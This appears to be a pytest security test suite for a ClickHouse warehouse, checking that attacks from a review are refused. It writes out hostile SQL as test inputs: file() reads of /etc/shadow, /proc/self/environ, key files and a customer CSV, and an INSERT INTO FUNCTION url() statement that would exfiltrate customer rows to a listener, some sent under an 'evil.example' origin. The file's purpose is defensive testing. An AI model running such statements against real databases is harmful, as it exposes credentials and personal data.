"""Each attack the warehouse review made, made again through curl, httpx and clickhouse-connect: none gets in.

Host files through ``file()`` and File tables, admin without credentials, a web page's cross-origin writes and
``url()`` exfiltration, a runaway analyst query, a query left running by a client that hung up, one user
watching or cancelling another's queries.
"""

from __future__ import annotations

import http.server
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import ClassVar

import httpx
import pytest

from lakehouse.privacy import tokenisation_key
from lakehouse.settings import Settings
from lakehouse.warehouse import WarehouseProcess
from tests.clickhouse import (
    ANALYST,
    admin_password,
    connect,
    curl,
    queries_running,
    split_response,
    wait_until_running,
    warehouse_on_free_port,
)

pytestmark = pytest.mark.integration

ALLOWED_ORIGIN = "http://dashboards.example"
EVIL_ORIGIN = "http://evil.example"
LIMIT_S = 3
SLOW_ADMIN_QUERY = "SELECT count() FROM numbers(100000000000) WHERE sleepEachRow(0) = 0 SETTINGS max_block_size = 1000"
"""Runs for minutes and sends nothing until it ends: only a kill stops it early."""


@pytest.fixture(scope="module")
def limited_warehouse(tmp_path_factory: pytest.TempPathFactory, local_settings: Settings) -> Iterator[WarehouseProcess]:
    """A warehouse whose analyst limits are small enough to meet in a test, with one allowed web origin."""
    with warehouse_on_free_port(
        local_settings,
        tmp_path_factory.mktemp("limited-warehouse"),
        analyst_max_execution_s=LIMIT_S,
        analyst_max_memory_bytes=1 << 30,
        analyst_max_concurrent_queries=2,
        warehouse_allowed_origins=[ALLOWED_ORIGIN],
    ) as process:
        yield process


def _as(warehouse: WarehouseProcess, user: str) -> tuple[str, str]:
    return ANALYST if user == "analyst" else (warehouse.settings.clickhouse_user, admin_password(warehouse))


def _post(
    warehouse: WarehouseProcess, sql: str, user: str = "admin", timeout_s: float = 60, **params: str
) -> httpx.Response:
    return httpx.post(warehouse.url, params=params, content=sql.encode(), auth=_as(warehouse, user), timeout=timeout_s)


def _host_secrets(settings: Settings) -> list[Path]:
    """Files SQL must not reach: the host's, the raw landing customers (names, emails), the platform's keys."""
    assert settings.clickhouse_password_file is not None
    customers = Path(settings.landing_uri) / "customers" / "customers.csv"
    tokenisation_key(settings)
    assert customers.exists() and settings.clickhouse_password_file.exists()
    return [
        Path("/etc/hostname"),
        Path("/etc/shadow"),
        Path("/proc/self/environ"),
        customers,
        settings.tokenisation_key_file,
        settings.clickhouse_password_file,
    ]


@pytest.mark.usefixtures("sample_landing")
@pytest.mark.parametrize("user", ["analyst", "admin"])
def test_no_user_reads_a_host_file_through_sql(
    warehouse: WarehouseProcess, local_settings: Settings, user: str
) -> None:
    for secret in _host_secrets(local_settings):
        answer = _post(warehouse, f"SELECT file('{secret}')", user)

        assert (answer.status_code, answer.headers["x-clickhouse-exception-code"]) == (500, "76"), secret
        assert f"Cannot open file {secret}" in answer.text and "Permission denied" in answer.text


@pytest.mark.usefixtures("sample_landing")
def test_a_file_table_or_a_symlink_in_the_lake_reaches_no_host_file(
    warehouse: WarehouseProcess, local_settings: Settings
) -> None:
    silver = Path(local_settings.lake_uri) / "silver"
    link = silver / f"link-{uuid.uuid4().hex[:8]}"
    link.symlink_to(_host_secrets(local_settings)[4])
    notes = silver / f"notes-{uuid.uuid4().hex[:8]}.txt"
    notes.write_text("inside the served folder\n")
    try:
        through_link = _post(warehouse, f"SELECT file('{link.name}')")
        _post(warehouse, "CREATE TABLE IF NOT EXISTS leak (line String) ENGINE = File(LineAsString, '/etc/hostname')")
        through_table = _post(warehouse, "SELECT * FROM leak")
        inside = _post(warehouse, f"SELECT file('{notes.name}')")
    finally:
        link.unlink()
        notes.unlink()
        _post(warehouse, "DROP TABLE IF EXISTS leak")

    assert through_link.status_code == 500 and "Permission denied" in through_link.text
    assert through_table.status_code == 500 and "Permission denied" in through_table.text
    assert (inside.status_code, inside.text) == (200, "inside the served folder\\n\n")


def test_a_request_without_credentials_is_refused_and_changes_nothing(warehouse: WarehouseProcess) -> None:
    answer = curl(
        warehouse, "/", "--data-binary", "CREATE TABLE anonymous_was_here (a UInt8) ENGINE = Memory", anonymous=True
    )
    status, headers, body = split_response(answer.stdout)

    assert (status, headers["x-clickhouse-exception-code"]) == (401, "194")
    assert "REQUIRED_PASSWORD" in body
    assert connect(warehouse).command("EXISTS TABLE anonymous_was_here") == 0


class _Listener(http.server.BaseHTTPRequestHandler):
    received: ClassVar[list[bytes]] = []

    def do_POST(self) -> None:
        self.received.append(self.rfile.read(int(self.headers.get("content-length", "0") or 0)))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture
def listener() -> Iterator[str]:
    """An HTTP server that records what is sent to it: where exfiltrated rows would arrive."""
    _Listener.received = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/x"
    server.shutdown()


@pytest.mark.usefixtures("sample_landing")
def test_a_web_page_on_another_origin_cannot_write_or_exfiltrate(
    warehouse: WarehouseProcess, local_settings: Settings, listener: str
) -> None:
    customers = _host_secrets(local_settings)[3]
    browser = {"Origin": EVIL_ORIGIN, "Content-Type": "text/plain"}
    statements = [
        "CREATE TABLE evil_was_here (a UInt8) ENGINE = Memory",
        f"INSERT INTO FUNCTION url('{listener}', 'LineAsString', 'line String') "
        f"SELECT * FROM file('{customers}', 'LineAsString')",
    ]
    for sql in statements:
        answer = httpx.post(warehouse.url, content=sql, headers=browser, auth=_as(warehouse, "admin"))

        assert (answer.status_code, answer.headers["x-clickhouse-exception-code"]) == (403, "497")
        assert f"web origin {EVIL_ORIGIN} are not allowed" in answer.text
    preflight = httpx.options(warehouse.url, headers={**browser, "Access-Control-Request-Method": "POST"})

    assert preflight.status_code == 204 and "access-control-allow-origin" not in preflight.headers
    assert connect(warehouse).command("EXISTS TABLE evil_was_here") == 0
    assert _Listener.received == []


@pytest.mark.usefixtures("sample_landing")
def test_even_the_admin_cannot_send_a_landing_file_to_a_listener(
    warehouse: WarehouseProcess, local_settings: Settings, listener: str
) -> None:
    customers = _host_secrets(local_settings)[3]
    sql = (
        f"INSERT INTO FUNCTION url('{listener}', 'LineAsString', 'line String') "
        f"SELECT * FROM file('{customers}', 'LineAsString')"
    )
    answer = _post(warehouse, sql)

    assert answer.status_code == 500 and "Permission denied" in answer.text
    assert _Listener.received == []


def test_an_allowed_origin_gets_cors_headers(limited_warehouse: WarehouseProcess) -> None:
    preflight = httpx.options(
        limited_warehouse.url, headers={"Origin": ALLOWED_ORIGIN, "Access-Control-Request-Method": "POST"}
    )
    answer = httpx.post(limited_warehouse.url, content="SELECT 1", headers={"Origin": ALLOWED_ORIGIN}, auth=ANALYST)

    assert preflight.status_code == 204
    assert preflight.headers["access-control-allow-origin"] == ALLOWED_ORIGIN
    assert "POST" in preflight.headers["access-control-allow-methods"]
    assert (answer.status_code, answer.text, answer.headers["access-control-allow-origin"]) == (
        200,
        "1\n",
        ALLOWED_ORIGIN,
    )


def test_a_runaway_analyst_query_meets_its_limit_and_harms_no_one(limited_warehouse: WarehouseProcess) -> None:
    runaway = "SELECT count() FROM numbers(1000000000000) AS a, numbers(1000000000000) AS b"
    with ThreadPoolExecutor(max_workers=1) as pool:
        started = time.monotonic()
        stopped = pool.submit(_post, limited_warehouse, runaway, "analyst")
        admins = _post(limited_warehouse, "SELECT sum(number) FROM numbers(100000000)")
        pinged = httpx.get(f"{limited_warehouse.url}/ping", timeout=2)
        answer = stopped.result()
        elapsed = time.monotonic() - started

    assert answer.headers["x-clickhouse-exception-code"] in ("159", "241"), answer.text
    assert elapsed < LIMIT_S + 10
    assert (admins.status_code, admins.text) == (200, f"{sum(range(100_000_000))}\n")
    assert pinged.text == "Ok.\n"
    assert queries_running(limited_warehouse, "numbers(1000000000000)") == 0


def test_a_query_whose_client_hangs_up_stops_within_a_second(warehouse: WarehouseProcess) -> None:
    marker = f"hangs_up_{uuid.uuid4().hex[:8]}"
    with pytest.raises(httpx.ReadTimeout):
        _post(
            warehouse, f"SELECT '{marker}', count() FROM numbers(100000000000) WHERE sleepEachRow(0) = 0", timeout_s=2
        )
    deadline = time.monotonic() + 1
    while queries_running(warehouse, marker) and time.monotonic() < deadline:
        time.sleep(0.05)

    assert queries_running(warehouse, marker) == 0


def test_the_analyst_sees_and_kills_only_its_own_queries(warehouse: WarehouseProcess) -> None:
    marker = f"admins_own_{uuid.uuid4().hex[:8]}"
    slow = SLOW_ADMIN_QUERY.replace("SELECT count()", f"SELECT '{marker}', count()")
    with ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(_post, warehouse, slow, "admin", 120, query_id=marker)
        wait_until_running(warehouse, marker)
        seen = _post(warehouse, "SELECT count() FROM system.processes WHERE query LIKE '%admins_own%'", "analyst")
        killed = _post(warehouse, "KILL QUERY WHERE 1 SYNC", "analyst")
        still_running = queries_running(warehouse, marker)
        connect(warehouse).command(f"KILL QUERY WHERE query LIKE '%{marker}%' AND query NOT LIKE '%KILL%' SYNC")

    assert (seen.status_code, seen.text) == (200, "1\n")  # only the analyst's own query, the one asking
    assert killed.status_code == 200 and marker not in killed.text
    assert still_running == 1


def test_the_query_log_shows_each_user_its_own_queries(warehouse: WarehouseProcess) -> None:
    marker = f"logged_{uuid.uuid4().hex[:8]}"
    _post(warehouse, f"SELECT '{marker}_admin'")
    _post(warehouse, f"SELECT '{marker}_analyst'", "analyst")
    connect(warehouse).command("SYSTEM FLUSH LOGS")
    sql = (
        "SELECT JSONExtractString(log_comment, 'user'), query FROM system.query_log "
        f"WHERE query LIKE '%{marker}%' AND query NOT LIKE '%query_log%' AND type = 'QueryFinish' "
        "ORDER BY query FORMAT TSVRaw"
    )

    assert _post(warehouse, sql, "analyst").text == f"analyst\tSELECT '{marker}_analyst'\n"
    assert _post(warehouse, sql).text == f"default\tSELECT '{marker}_admin'\nanalyst\tSELECT '{marker}_analyst'\n"


def test_the_analysts_concurrent_queries_are_capped(limited_warehouse: WarehouseProcess) -> None:
    slow = "SELECT sleepEachRow(0.5) FROM numbers(4)"
    with ThreadPoolExecutor(max_workers=3) as pool:
        answers = [pool.submit(_post, limited_warehouse, slow, "analyst") for _ in range(3)]
        codes = sorted(answer.result().headers.get("x-clickhouse-exception-code", "ok") for answer in answers)

    assert codes == ["202", "ok", "ok"]


def test_the_analyst_is_the_current_user_and_sends_one_statement_at_a_time(warehouse: WarehouseProcess) -> None:
    who = _post(warehouse, "SELECT currentUser(), user()", "analyst")
    several = _post(warehouse, "SET log_comment = 'x'; SELECT 1", "analyst")

    assert who.text == "analyst\tanalyst\n"
    assert (several.status_code, several.headers["x-clickhouse-exception-code"]) == (400, "62")
